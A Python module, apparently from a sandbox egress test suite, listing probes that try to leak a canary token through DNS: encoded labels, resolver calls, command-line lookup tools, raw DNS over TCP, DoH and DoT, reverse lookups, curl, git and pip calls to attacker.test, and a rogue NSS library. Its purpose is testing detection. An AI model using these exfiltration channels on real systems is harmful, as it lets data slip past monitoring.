"""Section D of the catalogue: name resolution as a channel.  The resolver outside must not be asked for anything."""
from __future__ import annotations

from ..kit import Effect, Event, Row, name, sink
from .network import act, connect, resolve, sent

# A name service of the attacker's own, in the place of the C library's: it sends what it is asked for.
NSS_ENTRY = "_nss_pwfix_gethostbyname2_r"


def spelled(world, row, result) -> str:
    """Any of the odd names, whatever became of its letters."""
    asked = [n for n in world.net.dns.names if "odd0name" in n]
    return f"asked for {asked[0]!r}" if asked else ""


ROWS = [
    Row("NR-01", "data in the labels of many names", "metadata", act("""
        for n in range(5):
            attempt(socket.getaddrinfo, "v2-f.%d.%s.%s.v2-e.exfil.attacker.test" % (n, CANARY, (CANARY * 3)[:60].encode().hex()[:60]), 80)
        """), name("v2-f.*.{canary}.*"), Event("net.resolve.tunnel", "net.resolve", {"host": "v2-f.4.canary-nr-01-*.v2-e.exfil.attacker.test"})),
    Row("NR-02", "gethostbyname, gethostbyname_ex, res_query", "build", act("""
        import ctypes
        attempt(socket.gethostbyname, "one." + CANARY + ".attacker.test")
        attempt(socket.gethostbyname_ex, "two." + CANARY + ".attacker.test")
        def txt():
            answer = ctypes.create_string_buffer(512)
            libc = ctypes.CDLL(None)
            getattr(libc if hasattr(libc, "res_query") else ctypes.CDLL("libresolv.so.2"), "res_query" if hasattr(libc, "res_query") else "__res_query")(("three." + CANARY + ".attacker.test").encode(), 1, 16, answer, 512)
        attempt(txt)
        """), name("*.{canary}.attacker.test"), (resolve("net.resolve", "one.canary*"), resolve("net.resolve", "two.canary*"),
                                                  resolve("net.resolve", "three.canary*"))),
    Row("NR-03", "queries made by hand, to the resolver and to another", "native", "", name("*.{canary}.attacker.test"),
        (resolve("net.resolve", "*.canary*"), sent("203.0.113.53", 53)), native="dns_packets"),
    Row("NR-04", "getent, nslookup, dig, host, ping", "metadata", act("""
        attempt(run, "getent", "hosts", "a." + CANARY + ".attacker.test")
        attempt(run, "getent", "ahosts", "b." + CANARY + ".attacker.test")
        for argv in (["nslookup", "-timeout=1"], ["dig", "+time=1", "+tries=1"], ["host", "-W", "1"], ["ping", "-c1", "-W1"]):
            attempt(run, *argv, "c." + CANARY + ".attacker.test")
        """), name("*.{canary}.attacker.test"), (resolve("net.resolve", "a.canary*"), resolve("net.resolve", "b.canary*")), needs=("getent",),
        note="nslookup, dig, host and ping are tried where they are"),
    Row("NR-05", "DNS over TCP", "build", act("""
        def query():
            question = b"".join(bytes([len(l)]) + l.encode() for l in ("tcp." + CANARY + ".attacker.test").split(".")) + b"\\0"
            packet = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + question + struct.pack("!HH", 16, 1)
            with socket.create_connection((SINK, 53), 5) as s:
                s.sendall(struct.pack("!H", len(packet)) + packet)
                s.recv(512)
        attempt(query)
        """), name("tcp.{canary}.attacker.test"), resolve("net.resolve", "tcp.canary*")),
    Row("NR-06", "DNS over HTTPS, DNS over TLS", "import", act("""
        attempt(ask, "https://dns.google/dns-query?dns=" + CANARY)
        def over_tls():
            with ssl._create_unverified_context().wrap_socket(socket.create_connection((SINK, 853), 5)) as s:
                s.sendall(b"\\0\\x30" + CANARY.encode())
        attempt(over_tls)
        """), sink(), (resolve("net.dns.over-https", "dns.google", "high"), connect(port=853))),
    Row("NR-07", "reverse lookups of addresses that carry data", "metadata", act("""
        attempt(socket.gethostbyaddr, "10.77.80.87")
        attempt(socket.getnameinfo, ("10.77.70.73", 0), socket.NI_NAMEREQD)
        attempt(socket.getnameinfo, ("10.77.88.33", 0), 0)
        """), name("*.77.10.in-addr.arpa"), tuple(Event("net.resolve.reverse", "net.resolve", {"address": a}) for a in ("10.77.80.87", "10.77.70.73", "10.77.88.33"))),
    Row("NR-10", "names asked for by honest tools", "build", act("""
        attempt(run, "git", "ls-remote", "https://git.%s.attacker.test/x" % CANARY)
        attempt(run, "curl", "-s", "-m", "5", "http://curl.%s.attacker.test/" % CANARY)
        attempt(run, sys.executable, "-m", "pip", "index", "versions", "-q", "--retries", "0", "--timeout", "2",
                "--index-url", "https://pip.%s.attacker.test/simple" % CANARY, "pwnothing", env={k: v for k, v in os.environ.items() if not k.startswith("PIP_")})
        """), name("*.{canary}.attacker.test"), tuple(resolve("net.resolve", f"{tool}.canary*") for tool in ("git", "curl", "pip")), needs=("git", "curl")),
    Row("NR-11", "names of odd syntax", "metadata", act("""
        for odd in ("Odd0Name.AtTaCkEr.TeSt", "odd0name-dot.attacker.test.", "xn--odd0name-9za.attacker.test", "odd0name" + CANARY[-16:], "odd0name_under.attacker.test",
                    ".".join(["odd0name" + "x" * 50] * 4)[:253], b"odd0name\\0.attacker.test", "odd0name\\n.attacker.test", "odd0name .attacker.test"):
            attempt(socket.getaddrinfo, odd, 80)
            attempt(socket.gethostbyname, odd)
        """), Effect.call(spelled), (resolve("net.resolve", "odd0name.attacker.test"), resolve("net.resolve", "odd0name-dot.attacker.test"), resolve("net.resolve", "xn--odd0name-9za.attacker.test"),
                                     resolve("net.resolve.bad", "odd0name*.attacker.test"))),
    Row("NR-12", "a name service module of the attacker's", "build", act("""
        import shutil
        module = os.path.join(os.getcwd(), "libnss_pwfix.so.2")
        shutil.copy(pwkit.here("pwnative.so"), module)
        attempt(run, "getent", "-s", "hosts:pwfix", "hosts", CANARY + ".nss.test", env=dict(os.environ, LD_LIBRARY_PATH=os.getcwd(), PWFIX_TARGETS=pwkit.here("targets.txt")))
        """), sink(), resolve("net.resolve", "canary*.nss.test"), native="nss", needs=("getent",)),
]
